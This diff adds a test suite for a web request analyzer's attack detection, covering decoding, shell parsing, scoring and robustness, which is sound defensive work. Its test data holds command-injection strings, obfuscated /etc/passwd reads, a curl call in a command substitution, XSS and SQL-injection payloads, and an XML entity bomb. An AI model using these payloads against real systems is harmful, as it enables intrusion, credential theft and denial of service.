@@ -1,0 +1,181 @@
+import fc from 'fast-check';
+import { buildExchange, createAnalysisEngine, DEFAULT_LIMITS, type MatchEventRecord } from '../../../../../runtime/analyzer/engine';
+import { Detector, InspectedValue, inspectValue, LEVEL_THRESHOLDS, ruleScore, type Rule, type RulePack } from '../../../../../runtime/analyzer/engine/detection';
+import { decodeValue, MAX_VALUE_CHARS, shellForm } from '../../../../../runtime/analyzer/engine/detection/decode';
+import { collectValues, graphqlLiterals, isGraphqlDocument, looksOpaque, xmlValues } from '../../../../../runtime/analyzer/engine/detection/placements';
+import { shellCommands } from '../../../../../runtime/analyzer/engine/detection/shell';
+import { viewRequest, type RequestView } from '../../../../../runtime/analyzer/engine/message-view';
+import { loadOwnCases } from '../../../../fixtures/detection-cases';
+import { scoreCorpora } from '../../../../bench/corpora/score';
+
+const context = { sensorId: 'sensor-1', sensorTags: [] };
+const view = (spec: Parameters<typeof buildExchange>[0]): RequestView => viewRequest(buildExchange(spec), DEFAULT_LIMITS);
+const classesOf = (value: string): string[] => [...new Set(inspectValue(new InspectedValue('query', 'q', value)).map((r) => r.classification))];
+
+describe('decoding layer', () => {
+  it('undoes every encoding attackers layer on a payload', () => {
+    expect(decodeValue('%252e%252e%252f')).toBe('../');
+    expect(decodeValue('%c0%ae%c0%ae%c0%af')).toBe('../');
+    expect(decodeValue('%u002e%u002e%u2215')).toBe('..\u2215'.replace('\u2215', '/'));
+    expect(decodeValue('&#x3C;script&#62;')).toBe('<script>');
+    expect(decodeValue('&#0000060;')).toBe('<');
+    expect(decodeValue('\\x3cimg\\u0020src=x\\u{3e}')).toBe('<img src=x>');
+    expect(decodeValue('..%bg%qf')).toBe('..%bg%qf');
+    expect(decodeValue('ⒸⒶⓉ ／etc／passwd')).toBe('CAT /etc/passwd');
+  });
+
+  it('terminates and stays bounded on adversarial input', () => {
+    const layered = fc.tuple(fc.string({ unit: fc.constantFrom('%', '2', '5', 'u', '&', '#', 'x', ';', '\\', '0', 'c', 'a', 'f', 'e') , maxLength: 3000 }), fc.integer({ min: 0, max: 6 }));
+    fc.assert(
+      fc.property(layered, ([s, rounds]) => {
+        let value = s;
+        for (let i = 0; i < rounds; i++) value = encodeURIComponent(value);
+        const out = decodeValue(value);
+        return typeof out === 'string' && out.length <= MAX_VALUE_CHARS && out.length <= Math.max(value.length, 1) * 18;
+      }),
+    );
+    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 5000 }), (s) => decodeValue(s).length <= MAX_VALUE_CHARS));
+    expect(decodeValue('%2525'.repeat(100_000)).length).toBeLessThanOrEqual(MAX_VALUE_CHARS);
+  });
+
+  it('reads shell obfuscation as the shell would', () => {
+    expect(shellForm("c'a't /e\"t\"c/pa\\sswd")).toBe('cat /etc/passwd');
+    expect(shellForm(';cat${ifs}/etc/passwd')).toBe(';cat /etc/passwd');
+    expect(shellForm('{cat,/etc/passwd}')).toBe('cat /etc/passwd');
+    expect(shellForm('w^h^o^a^m^i')).toBe('whoami');
+  });
+});
+
+describe('shell grammar', () => {
+  it('finds commands after separators, in substitutions and as whole command lines', () => {
+    expect(shellCommands('x; id').map((c) => [c.name, c.start])).toEqual([['id', 'separator']]);
+    expect(shellCommands('a`uname -a`').map((c) => [c.name, c.start])).toEqual([['uname', 'substitution']]);
+    expect(shellCommands('$(curl http://x.example/a)')[0]).toMatchObject({ name: 'curl', start: 'substitution', commandArgs: true });
+    expect(shellCommands('ping -n 3 127.0.0.1')[0]).toMatchObject({ name: 'ping', start: 'value-start', commandArgs: true });
+    expect(shellCommands('idea; identity')).toEqual([]);
+  });
+
+  it('flags injections in sh, cmd and PowerShell, and leaves prose alone', () => {
+    for (const attack of ['1;id', '| whoami', '&& dir c:\\', '`ls -la /`', '$(sleep 5)', 'x|type c:\\windows\\win.ini', '; powershell -enc SQBFAFgA', '|| net user', '& ping -n 30 127.0.0.1 &', 'a;cat$IFS/etc/passwd']) {
+      expect({ attack, classes: classesOf(attack) }).toEqual({ attack, classes: expect.arrayContaining(['CommandInjection']) });
+    }
+    for (const prose of ['Tom & Jerry', 'rock; paper; scissors', 'salt | pepper', 'R&D at the lab', 'news; more info later', 'he said "hi"; then left', 'at 5pm | meeting']) {
+      expect({ prose, classes: classesOf(prose) }).toEqual({ prose, classes: [] });
+    }
+  });
+
+  it('does not read random-token blobs as shell input', () => {
+    const blob = '2;0;4403767;3683380;3,45,0,1,1,36;.R@xx`TLJ0w,hnf7%eNj] +@1R5@o9:EsC7qufmZTI6Q+7QLTI[b<{*h3AV623v ^&tg/l;WJ6-W&|`owF1AHGT~b^xsB/9H9V]BXMdKg^`,vq:qOVTv*al7{Z?NbCNnO%}|07SMVGM0u4<;m$(QZ2R}>l^b[=a0rMMLif,*7FK0r.o$sz|U[g+`';
+    expect(new InspectedValue('body_json', 'sensor_data', blob).noisy).toBe(true);
+    expect(classesOf(blob)).not.toContain('CommandInjection');
+  });
+});
+
+describe('placements', () => {
+  const locations = (request: RequestView): string[] => collectValues(request).map((v) => `${v.location}:${v.name}=${v.raw}`);
+
+  it('reads GraphQL argument literals, not the document syntax', () => {
+    const document = 'query Product($id: ID!) {\n  product(id: "x\' OR 1=1--", lang: "en") {\n    id\n    name\n  }\n}';
+    expect(isGraphqlDocument(document)).toBe(true);
+    expect(graphqlLiterals(document)).toEqual([{ name: 'id', value: "x' OR 1=1--" }, { name: 'lang', value: 'en' }]);
+    const request = view({ method: 'POST', target: '/graphql', requestHeaders: [['Content-Type', 'application/json']], requestBody: JSON.stringify({ query: document, variables: { id: '1' } }) });
+    expect(locations(request)).toEqual(expect.arrayContaining(["body_graphql:id=x' OR 1=1--", 'body_json:variables.id=1']));
+    expect(locations(request).some((l) => l.includes('product('))).toBe(false);
+  });
+
+  it('reads XML text and attributes as values and the document for XXE', () => {
+    expect(xmlValues('<a b="1"><c>two</c><![CDATA[<three>]]></a>')).toEqual([{ name: 'a@b', value: '1' }, { name: 'c', value: 'two' }, { name: 'c', value: '<three>' }]);
+    const request = view({ method: 'POST', target: '/soap', requestHeaders: [['Content-Type', 'text/xml']], requestBody: '<order><id>5</id></order>' });
+    expect(locations(request)).toEqual(expect.arrayContaining(['xml_document:=<order><id>5</id></order>', 'body_xml:id=5']));
+  });
+
+  it('reads names, JSON keys, file names, cookies, every non-protocol header, path segments and base64 copies', () => {
+    const boundary = 'XyZ';
+    const multipart = `--${boundary}\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\nbody\r\n--${boundary}--\r\n`;
+    const request = view({
+      method: 'POST',
+      target: "/item/%22%3Bid%22/details?a%5B%24ne%5D=1&q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D",
+      requestHeaders: [['Content-Type', `multipart/form-data; boundary=${boundary}`], ['Cookie', 'sid=abc; th=dark'], ['X-Custom', 'v'], ['Sec-Fetch-Mode', 'cors']],
+      requestBody: multipart,
+    });
+    const found = locations(request);
+    expect(found).toEqual(expect.arrayContaining(['path:=%22%3Bid%22', 'query_name:a[$ne]=a[$ne]', 'multipart_filename:f.filename=a.php', 'cookie:sid=abc', 'header:X-Custom=v', 'query:q (base64)=<script>alert(1)</script>']));
+    expect(found.some((l) => l.startsWith('header:Sec-Fetch-Mode'))).toBe(false);
+  });
+
+  it('skips binary bodies however they are labelled', () => {
+    expect(looksOpaque('abc\u0000def')).toBe(true);
+    expect(looksOpaque('{"a":"b"}')).toBe(false);
+    const request = view({ method: 'POST', target: '/collect', requestHeaders: [['Content-Type', 'text/plain']], requestBody: Buffer.from([0x01, 0x00, 0x3c, 0x73, 0x63, 0x72, 0x69, 0x70, 0x74, 0x3e]) });
+    expect(collectValues(request).filter((v) => v.location === 'body')).toEqual([]);
+  });
+});
+
+describe('anomaly scoring', () => {
+  const rule = (id: number, severity: Rule['severity'], confidence: Rule['confidence']): Rule => ({ id, classification: 'SqlInjection', description: `rule ${id}`, state: 'Exploitation', severity, confidence, risk: 50 });
+  const weak = rule(1, 'warning', 'high');
+  const weaker = rule(2, 'notice', 'high');
+  const pack: RulePack = {
+    name: 'test',
+    classification: 'SqlInjection',
+    readsPlainValues: true,
+    rules: [weak, weaker],
+    prefilter: (v) => v.lower.includes('weak'),
+    inspect: (v, report) => {
+      report(weaker);
+      if (v.lower.includes('weaker')) report(weak);
+    },
+  };
+  const request = (q: string): RequestView => view({ target: `/x?q=${q}` });
+
+  it('scores each distinct rule once and alerts at the level threshold', () => {
+    expect(ruleScore(weak)).toBe(3);
+    expect(ruleScore(weaker)).toBe(2);
+    expect(LEVEL_THRESHOLDS).toEqual({ 1: 5, 2: 4, 3: 3, 4: 2 });
+    const alerts = (level: 1 | 2 | 3 | 4, q: string): boolean => new Detector({ level, packs: [pack] }).detect(request(q)).alert;
+    expect([1, 2, 3, 4].map((level) => alerts(level as 1, 'weak'))).toEqual([false, false, false, true]);
+    expect([1, 2, 3, 4].map((level) => alerts(level as 1, 'weaker'))).toEqual([true, true, true, true]);
+    const result = new Detector({ packs: [pack] }).detect(view({ target: '/x?q=weaker&r=weaker' }));
+    expect(result.score).toBe(5);
+    expect(result.hits.map((h) => `${h.rule.id}:${h.parameter}`).sort()).toEqual(['1:q', '1:r', '2:q', '2:r']);
+  });
+
+  it('lists every contributing rule, the score and the level in the MatchEvent', () => {
+    const engine = createAnalysisEngine({ detectionLevel: 2 });
+    const events = engine.analyze(buildExchange({ target: '/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&f=..%2F..%2F..%2Fetc%2Fpasswd' }), context);
+    const match = events.find((e): e is MatchEventRecord => e.msg_type === 'MatchEvent');
+    expect(match).toBeDefined();
+    expect(match!.detection_level).toBe(2);
+    expect(match!.anomaly_threshold).toBe(4);
+    expect(match!.anomaly_score).toBe(match!.matches.reduce((sum, m, i, all) => (all.findIndex((o) => o.id === m.id) === i ? sum + m.contrib_score : sum), 0));
+    expect(match!.matches.length).toBeGreaterThanOrEqual(2);
+  });
+});
+
+describe('own cases for the classes the development corpora hold few of', () => {
+  const own = loadOwnCases();
+  const score = scoreCorpora(own.attacks, own.benign, 1);
+
+  it('detects every class at level 1 and lets every benign look-alike pass', () => {
+    for (const [cls, entry] of Object.entries(score.perClass)) expect({ cls, rate: entry.rate >= 0.95 }).toEqual({ cls, rate: true });
+    expect(score.falsePositiveEvents.map((f) => f.record.payload)).toEqual([]);
+  });
+});
+
+describe('hostile requests', () => {
+  const engine = createAnalysisEngine();
+  const analyze = (spec: Parameters<typeof buildExchange>[0]) => engine.analyze(buildExchange(spec), context);
+
+  it('analyses deep, huge and broken messages without failing', () => {
+    const deepJson = '['.repeat(10_000) + '"<script>"' + ']'.repeat(10_000);
+    const deepXml = '<a>'.repeat(10_000) + '&lol;' + '</a>'.repeat(10_000);
+    const bomb = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>';
+    for (const body of [deepJson, deepXml, bomb, 'x'.repeat(16 * 1024 * 1024), '%'.repeat(100_000), '&#'.repeat(200_000)]) {
+      const type = body.startsWith('[') ? 'application/json' : body.startsWith('<') ? 'application/xml' : 'text/plain';
+      expect(Array.isArray(analyze({ method: 'POST', target: '/x', requestHeaders: [['Content-Type', type]], requestBody: body }))).toBe(true);
+    }
+    const headers: Array<[string, string]> = Array.from({ length: 300 }, (_, i) => [`X-H${i}`, `${'%25'.repeat(3000)}<svg onload=alert(${i})>`]);
+    expect(Array.isArray(analyze({ target: '/x', requestHeaders: headers }))).toBe(true);
+    expect(engine.counters().malformed).toBe(0);
+  });
+});
